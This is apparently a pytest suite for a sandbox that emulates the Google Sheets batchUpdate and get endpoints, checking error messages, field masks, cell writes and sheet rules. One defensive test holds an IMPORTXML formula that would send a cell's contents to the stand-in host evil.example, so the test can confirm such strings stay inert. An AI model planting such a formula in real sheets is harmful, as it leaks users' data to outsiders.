"""spreadsheets.batchUpdate and spreadsheets.get of the sandbox, through the official client."""

from __future__ import annotations

import json
from typing import Any

import pytest
from googleapiclient.errors import HttpError


class Book:
    """A new spreadsheet of the sandbox: one sheet, id 0, 1000 x 26."""

    def __init__(self, client: Any, state: Any) -> None:
        self.client, self.state = client.spreadsheets(), state
        self.id = state.add_spreadsheet("Report")

    def batch(self, *requests: dict[str, Any]) -> list[dict[str, Any]]:
        body = {"requests": list(requests)}
        return self.client.batchUpdate(spreadsheetId=self.id, body=body).execute()["replies"]

    def refusal(self, *requests: dict[str, Any]) -> str:
        with pytest.raises(HttpError) as refused:
            self.batch(*requests)
        return json.loads(refused.value.content)["error"]["message"]

    def get(self, fields: str | None = None, **query: Any) -> dict[str, Any]:
        return self.client.get(spreadsheetId=self.id, fields=fields, **query).execute()

    def seen(self, range_: str) -> list[list[str]]:
        return self.state.read_cells(self.id, range_)


@pytest.fixture
def book(google: tuple[Any, Any]) -> Book:
    return Book(*google)


def text(value: str) -> dict[str, Any]:
    return {"userEnteredValue": {"stringValue": value}}


def area(top: int, bottom: int, left: int, right: int) -> dict[str, int]:
    rows = {"startRowIndex": top, "endRowIndex": bottom}
    return rows | {"startColumnIndex": left, "endColumnIndex": right}


def write(rows: list[list[str]], fields: str = "userEnteredValue", **place: Any) -> dict[str, Any]:
    data = [{"values": [text(value) for value in row]} for row in rows]
    return {"updateCells": {"rows": data, "fields": fields, **place}}


def add_sheet(**properties: Any) -> dict[str, Any]:
    return {"addSheet": {"properties": properties}}


def update_sheet(fields: str, **properties: Any) -> dict[str, Any]:
    return {"updateSheetProperties": {"properties": properties, "fields": fields}}


START = {"start": {"rowIndex": 0, "columnIndex": 0}}


def test_unknown_field_is_refused_in_googles_shape(book: Book) -> None:
    with pytest.raises(HttpError) as refused:
        book.batch({"frobnicate": {}})
    message = (
        "Invalid JSON payload received. Unknown name \"frobnicate\" at 'requests[0]': "
        "Cannot find field."
    )
    violation = {"field": "requests[0]", "description": message}
    details = [
        {"@type": "type.googleapis.com/google.rpc.BadRequest", "fieldViolations": [violation]}
    ]
    error = {"code": 400, "message": message, "status": "INVALID_ARGUMENT", "details": details}
    assert json.loads(refused.value.content) == {"error": error}


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (add_sheet(titel="A"), "Unknown name \"titel\" at 'requests[0].add_sheet.properties'"),
        (add_sheet(sheetType="GRIDD"), '(TYPE_ENUM), "GRIDD"'),
        (add_sheet(sheetId="7"), '(TYPE_INT32), "7"'),
        (add_sheet(sheetId=2**31), "(TYPE_INT32), 2147483648"),
        (add_sheet(hidden="no"), '(TYPE_BOOL), "no"'),
        (write([["a"]], fields="", **START), "At least one field must be listed in 'fields'."),
        (write([["a"]], fields="userEnteredValu", **START), "Invalid field: userEnteredValu"),
        ({}, "Invalid requests[0]: No request set."),
        ({"addSheet": {}, "deleteSheet": {}}, "only one of addSheet, deleteSheet may be set"),
        ({"updateCells": {"rows": {}}}, "(type.googleapis.com/google.protobuf.ListValue), {}"),
    ],
)
def test_wrong_request_is_refused(book: Book, request_: dict[str, Any], message: str) -> None:
    assert message in book.refusal(request_)


@pytest.mark.parametrize("number", [float("nan"), float("inf")])
def test_bare_nan_is_refused(book: Book, number: float) -> None:
    cell = {"userEnteredValue": {"numberValue": number}}
    request = {"updateCells": {"rows": [{"values": [cell]}], "fields": "*", **START}}
    assert "Unexpected token" in book.refusal(request)


@pytest.mark.parametrize(
    "request_",
    [
        {"addChart": {"chart": {}}},
        {"updateCells": {"fields": "dataValidation", **START}},
        {
            "createDeveloperMetadata": {
                "developerMetadata": {
                    "metadataKey": "k",
                    "visibility": "DOCUMENT",
                    "location": {"dimensionRange": {}},
                }
            }
        },
    ],
)
def test_valid_but_unimplemented_is_501(book: Book, request_: dict[str, Any]) -> None:
    with pytest.raises(HttpError) as refused:
        book.batch(request_)
    assert refused.value.status_code == 501


def test_batch_is_all_or_nothing(book: Book) -> None:
    before = book.get()
    message = book.refusal(
        add_sheet(title="New"), write([["gone"]], **START), {"deleteSheet": {"sheetId": 99}}
    )
    assert message == "Invalid requests[2].deleteSheet: No grid with id: 99"
    assert book.get() == before
    assert book.seen("Sheet1!A1") == [[""]]


def test_empty_batch_is_refused(book: Book) -> None:
    assert book.refusal() == "Must specify at least one request."


def test_each_request_sees_those_before_it_and_has_a_reply(book: Book) -> None:
    start = {"start": {"sheetId": 7, "rowIndex": 0, "columnIndex": 0}}
    replies = book.batch(add_sheet(title="Week", sheetId=7), write([["a"]], **start))
    grid = {"rowCount": 1000, "columnCount": 26}
    expected = {"sheetId": 7, "title": "Week", "index": 1, "sheetType": "GRID"}
    assert replies == [{"addSheet": {"properties": {**expected, "gridProperties": grid}}}, {}]
    assert book.seen("Week!A1") == [["a"]]


@pytest.mark.parametrize(
    ("properties", "message"),
    [
        ({"title": "Sheet1"}, 'A sheet with the name "Sheet1" already exists.'),
        ({"title": "SHEET1"}, 'A sheet with the name "SHEET1" already exists.'),
        ({"title": ""}, "The sheet name cannot be empty."),
        ({"title": "x" * 101}, "cannot be greater than 100 characters"),
        ({"sheetId": 0}, "Invalid sheetId: 0"),
        ({"sheetId": 5}, "A sheet with id 5 already exists."),
        ({"gridProperties": {"rowCount": 1_000_000}}, "above the limit of 10000000 cells"),
        ({"gridProperties": {"rowCount": 2, "frozenRowCount": 2}}, "You can't freeze all"),
    ],
)
def test_sheets_that_cannot_be_added(book: Book, properties: Any, message: str) -> None:
    book.batch(add_sheet(title="Taken", sheetId=5))
    assert message in book.refusal(add_sheet(**properties))


def test_the_last_visible_sheet_stays(book: Book) -> None:
    book.batch(add_sheet(title="Hidden", sheetId=5, hidden=True))
    assert "You can't hide all the sheets" in book.refusal(update_sheet("hidden", hidden=True))
    assert "remove all the visible sheets" in book.refusal({"deleteSheet": {"sheetId": 0}})


@pytest.mark.parametrize(("index", "titles"), [(0, "BAC"), (1, "ABC"), (2, "ABC"), (3, "ACB")])
def test_index_counts_positions_before_the_move(book: Book, index: int, titles: str) -> None:
    book.batch(
        update_sheet("title", title="A"),
        add_sheet(title="B", sheetId=2),
        add_sheet(title="C", sheetId=3),
        update_sheet("index", sheetId=2, index=index),
    )
    sheets = [sheet["properties"] for sheet in book.get()["sheets"]]
    assert [(s["title"], s["index"]) for s in sheets] == [(t, i) for i, t in enumerate(titles)]


@pytest.mark.parametrize(
    "fields",
    [
        "gridProperties.frozenRowCount",
        "gridProperties/frozenRowCount",
        "gridProperties(frozenRowCount)",
        "grid_properties.frozen_row_count",
    ],
)
def test_masks_limit_what_changes(book: Book, fields: str) -> None:
    book.batch(update_sheet(fields, title="Not masked", gridProperties={"frozenRowCount": 2}))
    properties = book.get("sheets.properties")["sheets"][0]["properties"]
    assert properties["title"] == "Sheet1"
    grid = {"rowCount": 1000, "columnCount": 26, "frozenRowCount": 2}
    assert properties["gridProperties"] == grid


def test_shrinking_the_grid_cuts_off_the_rest(book: Book) -> None:
    grid = {"rowCount": 2, "columnCount": 2}
    book.batch(
        write([["a", "b", "c"], ["d"], ["e"]], **START),
        {"setBasicFilter": {"filter": {"range": area(0, 3, 0, 3)}}},
        {"mergeCells": {"range": area(4, 6, 0, 2), "mergeType": "MERGE_ALL"}},
        update_sheet("gridProperties(rowCount,columnCount)", gridProperties=grid),
    )
    assert book.seen("Sheet1") == [["a", "b"], ["d", ""]]
    sheet = book.get()["sheets"][0]
    assert "merges" not in sheet
    assert sheet["basicFilter"] == {"range": area(0, 2, 0, 2)}


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ("properties(title,timeZone)", {"properties": {"title": "Report", "timeZone": "Etc/GMT"}}),
        (
            "sheets.properties(sheetId,title)",
            {"sheets": [{"properties": {"sheetId": 0, "title": "Sheet1"}}]},
        ),
        (
            "sheets/properties/index,sheets.properties.title",
            {"sheets": [{"properties": {"title": "Sheet1", "index": 0}}]},
        ),
        ("sheets(charts,conditionalFormats)", {"sheets": [{}]}),
        ("*/title", {"properties": {"title": "Report"}, "sheets": [{}]}),
    ],
)
def test_get_gives_what_the_mask_asks_for(book: Book, fields: str, expected: Any) -> None:
    assert book.get(fields) == expected


@pytest.mark.parametrize("fields", ["sheets.propertys", "sheets(", "sheets.,title", "nothing"])
def test_bad_mask_of_get_is_refused(book: Book, fields: str) -> None:
    with pytest.raises(HttpError, match="Request contains an invalid argument"):
        book.get(fields)


def test_a_cell_is_read_back_with_its_value_shown(book: Book) -> None:
    number = {"type": "NUMBER", "pattern": "0.00"}
    style = {"numberFormat": number, "backgroundColor": {"red": 1, "green": 0}}
    cell = {"userEnteredValue": {"numberValue": 0}, "userEnteredFormat": style, "note": "n"}
    rows = [{"values": [cell]}]
    book.batch({"updateCells": {"rows": rows, "fields": "*", **START}})
    found = book.get("sheets.data.rowData.values")["sheets"][0]["data"][0]["rowData"]
    red = {"backgroundColor": {"red": 1}, "backgroundColorStyle": {"rgbColor": {"red": 1}}}
    value = {"numberValue": 0}
    assert found == [
        {
            "values": [
                {
                    "userEnteredValue": value,
                    "effectiveValue": value,
                    "formattedValue": "0.00",
                    "note": "n",
                    "userEnteredFormat": {"numberFormat": number, **red},
                }
            ]
        }
    ]


def test_cells_come_only_when_asked_for(book: Book) -> None:
    book.batch(write([["a"], ["b"]], **START))
    assert "data" not in book.get()["sheets"][0]
    assert "data" in book.get(includeGridData=True)["sheets"][0]
    assert "data" not in book.get("sheets.properties", includeGridData=True)["sheets"][0]
    one = book.get("sheets.data.rowData.values.formattedValue", ranges=["Sheet1!A2"])
    assert one["sheets"][0]["data"][0]["rowData"] == [{"values": [{"formattedValue": "b"}]}]


def test_update_cells_clears_the_rest_of_its_range(book: Book) -> None:
    book.batch(write([["a", "b"], ["c", "d"], ["e", "f"]], **START))
    book.batch(write([["new"]], range=area(0, 2, 0, 2)))
    assert book.seen("Sheet1!A1:B3") == [["new", ""], ["", ""], ["e", "f"]]


def test_update_cells_leaves_what_the_mask_does_not_list(book: Book) -> None:
    bold = {"textFormat": {"bold": True}}
    cell = {**text("old"), "userEnteredFormat": bold, "note": "by a person"}
    book.batch({"updateCells": {"rows": [{"values": [cell]}], "fields": "*", **START}})
    book.batch(write([["new"]], range=area(0, 1, 0, 1)))
    data = book.get("sheets.data.rowData.values(note,userEnteredFormat,userEnteredValue)")
    assert data["sheets"][0]["data"][0]["rowData"][0]["values"] == [
        {**text("new"), "userEnteredFormat": bold, "note": "by a person"}
    ]


def test_a_string_value_is_never_a_formula(book: Book) -> None:
    evil = '=IMPORTXML("http://evil.example/?"&A1,"//a")'
    book.batch(write([[evil]], **START))
    cell = book.get("sheets.data.rowData.values")["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert cell == [
        {
            "userEnteredValue": {"stringValue": evil},
            "effectiveValue": {"stringValue": evil},
            "formattedValue": evil,
        }
    ]


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (write([["a"]], range=area(999, 1001, 0, 1)), "exceeds grid limits. Max rows: 1000"),
        (write([["a"], ["b"]], range=area(0, 1, 0, 1)), "Attempting to write row: 1, beyond"),
        (write([["a"] * 27], **START), "Attempting to write column: 26, beyond"),
        (write([["a"]], start={"rowIndex": 1000}), "outside the grid"),
        (write([["x" * 50_001]], **START), "maximum of 50000 characters in a single cell"),
        (write([["a"]], start={"sheetId": 7}), "No grid with id: 7"),
        (write([["a"]]), "Exactly one of 'start' and 'range'"),
    ],
)
def test_cells_that_cannot_be_written(book: Book, request_: Any, message: str) -> None:
    assert message in book.refusal(request_)


def test_a_cell_holds_50000_characters(book: Book) -> None:
    book.batch(write([["x" * 50_000]], **START))
    assert len(book.seen("Sheet1!A1")[0][0]) == 50_000


def test_merging_stops_at_the_frozen_edge(book: Book) -> None:
    merge = {"mergeCells": {"range": area(0, 2, 0, 2), "mergeType": "MERGE_ALL"}}
    freeze = update_sheet("gridProperties.frozenRowCount", gridProperties={"frozenRowCount": 1})
    assert "can't merge frozen and non-frozen" in book.refusal(freeze, merge)
    book.batch(write([["kept", "lost"]], **START), merge)
    assert book.get()["sheets"][0]["merges"] == [area(0, 2, 0, 2)]
    assert book.seen("Sheet1!A1:B1") == [["kept", ""]]


def test_zeros_are_dropped_as_google_drops_them(book: Book) -> None:
    protect = {"range": {"sheetId": 0}, "warningOnly": False, "description": "d"}
    replies = book.batch(
        {"setBasicFilter": {"filter": {"range": {"sheetId": 0}}}},
        {"addProtectedRange": {"protectedRange": {"protectedRangeId": 4, **protect}}},
    )
    sheet = book.get()["sheets"][0]
    assert sheet["basicFilter"] == {"range": area(0, 1000, 0, 26)}
    assert (sheet["properties"]["sheetId"], sheet["properties"]["index"]) == (0, 0)
    expected = {"protectedRangeId": 4, "range": {}, "description": "d"}
    expected |= {"requestingUserCanEdit": True, "editors": {}}
    assert replies == [{}, {"addProtectedRange": {"protectedRange": expected}}]


BAND = {"range": area(0, 9, 0, 2), "rowProperties": {"firstBandColor": {"red": 1}}}
META = {"metadataKey": "week", "metadataValue": "2026-W47", "visibility": "DOCUMENT"}


@pytest.mark.parametrize(
    ("request_", "message"),
    [
        (
            {
                "addBanding": {
                    "bandedRange": {"bandedRangeId": 9, **BAND, "range": area(20, 30, 0, 2)}
                }
            },
            "A banded range with id 9 already exists.",
        ),
        ({"addBanding": {"bandedRange": BAND}}, "alternating background colors"),
        (
            {"addProtectedRange": {"protectedRange": {"protectedRangeId": 9, "range": {}}}},
            "A protected range with id 9 already exists.",
        ),
        (
            {
                "createDeveloperMetadata": {
                    "developerMetadata": {
                        "metadataId": 9,
                        **META,
                        "location": {"spreadsheet": True},
                    }
                }
            },
            "Developer metadata with id 9 already exists.",
        ),
    ],
)
def test_taken_ids_are_refused(book: Book, request_: Any, message: str) -> None:
    metadata = {"metadataId": 9, **META, "location": {"sheetId": 0}}
    book.batch(
        {"addBanding": {"bandedRange": {"bandedRangeId": 9, **BAND}}},
        {"addProtectedRange": {"protectedRange": {"protectedRangeId": 9, "range": {}}}},
        {"createDeveloperMetadata": {"developerMetadata": metadata}},
    )
    assert message in book.refusal(request_)


def test_rules_are_updated_and_deleted_by_id(book: Book) -> None:
    band = {"bandedRangeId": 9, **BAND}
    protection = {"protectedRangeId": 9, "range": {"sheetId": 0}}
    moved = {"bandedRangeId": 9, "range": area(0, 20, 0, 2)}
    book.batch(
        {"addBanding": {"bandedRange": band}},
        {"addProtectedRange": {"protectedRange": protection}},
        {"updateBanding": {"bandedRange": moved, "fields": "range"}},
        {
            "updateProtectedRange": {
                "protectedRange": {**protection, "warningOnly": True},
                "fields": "warningOnly",
            }
        },
    )
    sheet = book.get()["sheets"][0]
    assert sheet["bandedRanges"][0]["range"] == area(0, 20, 0, 2)
    assert sheet["protectedRanges"][0]["warningOnly"] is True
    book.batch(
        {"deleteBanding": {"bandedRangeId": 9}}, {"deleteProtectedRange": {"protectedRangeId": 9}}
    )
    assert book.get()["sheets"][0].keys() == {"properties"}


def test_conditional_rules_are_known_by_their_place(book: Book) -> None:
    condition = {"type": "NUMBER_LESS", "values": [{"userEnteredValue": "1"}]}
    boolean = {"condition": condition, "format": {"backgroundColor": {"red": 1}}}
    for row in range(3):
        rule = {"ranges": [area(row, row + 1, 0, 1)], "booleanRule": boolean}
        book.batch({"addConditionalFormatRule": {"rule": rule, "index": row}})
    (reply,) = book.batch({"deleteConditionalFormatRule": {"index": 1}})
    assert reply["deleteConditionalFormatRule"]["rule"]["ranges"] == [area(1, 2, 0, 1)]
    left = book.get()["sheets"][0]["conditionalFormats"]
    assert [rule["ranges"] for rule in left] == [[area(0, 1, 0, 1)], [area(2, 3, 0, 1)]]
    assert "at index: 2" in book.refusal({"deleteConditionalFormatRule": {"index": 2}})


def test_developer_metadata_is_found_on_its_sheet(book: Book) -> None:
    on_sheet = {"metadataId": 5, **META, "location": {"sheetId": 0}}
    on_book = {"metadataId": 6, **META, "location": {"spreadsheet": True}}
    book.batch(
        *({"createDeveloperMetadata": {"developerMetadata": m}} for m in (on_sheet, on_book))
    )
    lookup = {"developerMetadataLookup": {"metadataId": 5}}
    change = {"developerMetadata": {"metadataValue": "done"}, "fields": "metadataValue"}
    book.batch({"updateDeveloperMetadata": {"dataFilters": [lookup], **change}})
    found = book.get("sheets.developerMetadata,developerMetadata")
    (metadata,) = found["sheets"][0]["developerMetadata"]
    assert metadata == {**on_sheet, "metadataValue": "done", "location": {"locationType": "SHEET"}}
    location = {"locationType": "SPREADSHEET", "spreadsheet": True}
    assert found["developerMetadata"] == [{**on_book, "location": location}]
    book.batch({"deleteDeveloperMetadata": {"dataFilter": lookup}})
    assert book.get("sheets.developerMetadata")["sheets"] == [{}]


def test_properties_of_the_spreadsheet(book: Book) -> None:
    properties = {"timeZone": "Europe/Madrid", "title": "Renamed"}
    change = {"properties": properties, "fields": "timeZone,title"}
    book.batch({"updateSpreadsheetProperties": change})
    assert book.get("properties(timeZone,title)")["properties"] == properties
    assert book.state.files[book.id].name == "Renamed"
    change = {"properties": {"timeZone": "Mars/Olympus"}, "fields": "timeZone"}
    assert "Invalid time zone" in book.refusal({"updateSpreadsheetProperties": change})


def test_sizes_and_hidden_columns_are_read_back(book: Book) -> None:
    columns = {"dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    change = {"properties": {"pixelSize": 180, "hiddenByUser": True}, "fields": "*"}
    book.batch(
        {
            "updateDimensionProperties": {
                "range": columns,
                **change,
                "fields": "pixelSize,hiddenByUser",
            }
        }
    )
    found = book.get("sheets.data.columnMetadata", ranges=["Sheet1!A1:B1"])
    sizes = found["sheets"][0]["data"][0]["columnMetadata"]
    assert sizes == [{"pixelSize": 100}, {"pixelSize": 180, "hiddenByUser": True}]
